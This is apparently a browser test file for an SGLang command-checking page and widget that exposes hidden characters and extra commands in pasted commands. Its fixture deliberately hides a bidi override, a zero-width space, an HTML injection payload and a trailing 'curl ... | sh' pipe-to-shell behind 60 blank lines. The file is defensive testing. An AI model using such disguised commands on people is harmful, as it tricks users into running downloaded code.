// What you see is what runs (issue 15): hidden and bidi characters are drawn visibly in the
// command box, spelled out in an "as it runs" view and in the widget; every other command the
// paste runs is listed above the findings; copying such a command warns first. No user text
// ever becomes markup.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { launch, newPage, renders, hashUrl, cleanState } from './harness.mjs';

let env;
before(async () => {
  env = await launch();
});
after(async () => {
  await env?.close();
});

// SGLang would start this (the override sits in a comment), but the override turns the rest of
// line 1 around, a zero-width space hides after it, and 60 blank lines down the paste pipes a
// download into a shell. Markup in the text must stay text.
const HIDDEN_CMD =
  'python -m sglang.launch_server --model-path m # \u202E note <img src=x id=pwn1 onerror=alert(1)> \u202C\u200B' +
  '\n'.repeat(60) +
  '; curl "x<b id=pwn2>y</b>" | sh';

const noInjected = (page) =>
  page.evaluate(() => ({
    ids: document.querySelectorAll('#pwn1, #pwn2').length,
    imgs: document.querySelectorAll('img').length,
    bolds: document.querySelectorAll('b').length,
    widgetInjected: [...document.querySelectorAll('sglang-preflight')].reduce((n, w) => n + w.shadowRoot.querySelectorAll('#pwn1, #pwn2, img, b').length, 0),
  }));

test('a permalink with a bidi override and a hidden `curl | sh`: markers, as-it-runs view, also-runs panel, not green', async () => {
  const { page, context, rec } = await newPage(env);
  try {
    await page.goto(hashUrl(env, { cmd: HIDDEN_CMD }));
    await renders(page, 1);
    await page.waitForFunction(() => !document.querySelector('#verdict').classList.contains('pending'));
    assert.equal(await page.locator('#command').inputValue(), HIDDEN_CMD);

    // The verdict is not the all-clear, and there are findings.
    const verdictClass = await page.locator('#verdict').getAttribute('class');
    assert.doesNotMatch(verdictClass, /^verdict accepted$/, verdictClass);
    assert.match(verdictClass, /caution|rejected/);
    assert.equal(await page.locator('#cards .empty').count(), 0);
    const codes = await page.locator('#cards .card-head .code').allTextContents();
    for (const c of ['TXT009', 'TXT004', 'P0003']) assert.ok(codes.includes(c), `cards: ${codes}`);

    // Command box: every hidden character is marked in the backdrop, labelled, and the backdrop
    // still holds exactly the textarea's text (so it lays out the same).
    const bd = await page.evaluate(() => {
      const b = document.querySelector('#backdrop');
      const t = document.querySelector('#command');
      return {
        text: b.textContent,
        labels: [...b.querySelectorAll('.hc')].map((h) => h.dataset.label),
        marked: [...b.querySelectorAll('.hc')].map((h) => h.textContent),
        afterLabel: [...b.querySelectorAll('.hc[data-label]')].map((h) => getComputedStyle(h, '::after').content),
        heights: [b.scrollHeight, t.scrollHeight],
      };
    });
    assert.equal(bd.text, HIDDEN_CMD + '\n');
    assert.deepEqual(bd.labels, ['RLO', 'PDF', 'ZWSP']);
    assert.deepEqual(bd.marked, ['\u202E', '\u202C', '\u200B']);
    assert.deepEqual(bd.afterLabel, ['"RLO"', '"PDF"', '"ZWSP"']);
    assert.equal(bd.heights[0], bd.heights[1], 'backdrop and textarea lay out the same height');

    // "As it runs": line 1 spelled out (no raw control left), the gap, nothing else.
    await page.locator('#as-runs').waitFor({ state: 'visible' });
    const asRuns = await page.locator('#as-runs-body').textContent();
    assert.match(asRuns, /⟨U\+202E RLO⟩/);
    assert.match(asRuns, /⟨U\+202C PDF⟩⟨U\+200B ZWSP⟩/);
    assert.doesNotMatch(asRuns, /[\u202A-\u202E\u2066-\u2069\u200B]/);
    assert.match(asRuns, /<img src=x id=pwn1 onerror=alert\(1\)>/, 'markup shown as text');

    // "This paste also runs": visible (not collapsed), above the cards, with the curl and the sh.
    const panel = page.locator('#also-runs .also-runs');
    await panel.waitFor({ state: 'visible' });
    assert.match(await panel.textContent(), /This paste also runs:/);
    const items = await panel.locator('.also-item').allTextContents();
    assert.deepEqual(items, ['line 61curl "x<b id=pwn2>y</b>"', 'line 61sh']);
    const [panelBox, cardsBox] = [await panel.boundingBox(), await page.locator('#cards').boundingBox()];
    assert.ok(panelBox.y < cardsBox.y, 'the panel is above the cards');
    // Clicking one selects it in the editor.
    await panel.locator('.also-item').first().click();
    const sel = await page.evaluate(() => {
      const t = document.querySelector('#command');
      return { active: document.activeElement === t, text: t.value.slice(t.selectionStart, t.selectionEnd) };
    });
    assert.deepEqual(sel, { active: true, text: 'curl "x<b id=pwn2>y</b>"' });

    assert.deepEqual(await noInjected(page), { ids: 0, imgs: 0, bolds: 0, widgetInjected: 0 });
    assert.deepEqual(await cleanState(page, rec), { csp: [], errors: [], external: [], dialogs: [] });
  } finally {
    await context.close();
  }
});

test('copying a command with hidden characters or other commands warns first; the copy happens on "Copy anyway"', async () => {
  const { page, context, rec } = await newPage(env);
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: env.server.origin });
  try {
    await page.goto(hashUrl(env, { cmd: HIDDEN_CMD }));
    await renders(page, 1);
    await page.evaluate(() => navigator.clipboard.writeText('before'));
    await page.locator('#copy').click();
    const warn = page.locator('#copy-warn');
    await warn.waitFor({ state: 'visible' });
    const msg = await page.locator('#copy-warn-text').textContent();
    assert.match(msg, /2 bidirectional control characters/);
    assert.match(msg, /1 invisible or blank-looking character;/);
    assert.match(msg, /2 other commands/);
    // Nothing is copied yet; Cancel copies nothing.
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'before');
    await page.locator('#copy-cancel').click();
    assert.equal(await warn.isHidden(), true);
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'before');
    // Copy anyway copies the command as it is.
    await page.locator('#copy').click();
    await page.locator('#copy-anyway').click();
    await page.locator('#notice', { hasText: 'Command copied.' }).waitFor();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), HIDDEN_CMD);
    // The link warns the same way, and carries the command.
    await page.locator('#share').click();
    await warn.waitFor({ state: 'visible' });
    assert.match(await page.locator('#copy-warn-text').textContent(), /this link carries a command/);
    await page.locator('#copy-anyway').click();
    await page.locator('#notice', { hasText: 'Link copied.' }).waitFor();
    const link = await page.evaluate(() => navigator.clipboard.readText());
    assert.equal(new URLSearchParams(new URL(link).hash.slice(1)).get('cmd'), HIDDEN_CMD);
    assert.deepEqual(await noInjected(page), { ids: 0, imgs: 0, bolds: 0, widgetInjected: 0 });
    assert.deepEqual(await cleanState(page, rec), { csp: [], errors: [], external: [], dialogs: [] });
  } finally {
    await context.close();
  }
});

test('a clean command copies at once, with no warning and no also-runs panel', async () => {
  const { page, context, rec } = await newPage(env);
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: env.server.origin });
  try {
    const clean = 'python -m sglang.launch_server --model-path Qwen/Qwen3-8B';
    await page.goto(hashUrl(env, { cmd: clean }));
    await renders(page, 1);
    assert.equal(await page.locator('#also-runs .also-runs').count(), 0);
    assert.equal(await page.locator('#as-runs').isHidden(), true);
    assert.equal(await page.locator('#backdrop .hc').count(), 0);
    await page.locator('#copy').click();
    await page.locator('#notice', { hasText: 'Command copied.' }).waitFor();
    assert.equal(await page.locator('#copy-warn').isHidden(), true);
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), clean);
    assert.deepEqual(await cleanState(page, rec), { csp: [], errors: [], external: [], dialogs: [] });
  } finally {
    await context.close();
  }
});

test('the widget spells hidden characters out and lists what else the command runs', async () => {
  const { page, context, rec } = await newPage(env);
  try {
    await page.goto(env.server.url + 'docs-example.html');
    const good = page.locator('sglang-preflight#good');
    await good.locator('.verdict:not(.pending)').waitFor({ timeout: 20000 });
    await page.evaluate((c) => document.querySelector('#good').setAttribute('command', c), HIDDEN_CMD);
    await good.locator('.also-runs').waitFor({ timeout: 20000 });
    await good.locator('pre.cmd.escaped').waitFor();
    const pre = await good.locator('pre.cmd').textContent();
    assert.match(pre, /⟨U\+202E RLO⟩/);
    assert.match(pre, /⟨U\+202C PDF⟩⟨U\+200B ZWSP⟩/);
    assert.doesNotMatch(pre, /[\u202A-\u202E\u200B]/);
    const items = await good.locator('.also-item').allTextContents();
    assert.deepEqual(items, ['line 61curl "x<b id=pwn2>y</b>"', 'line 61sh']);
    assert.match(await good.locator('.verdict').getAttribute('class'), /caution|rejected/);
    assert.deepEqual(await noInjected(page), { ids: 0, imgs: 0, bolds: 0, widgetInjected: 0 });
    assert.deepEqual(await cleanState(page, rec), { csp: [], errors: [], external: [], dialogs: [] });
  } finally {
    await context.close();
  }
});
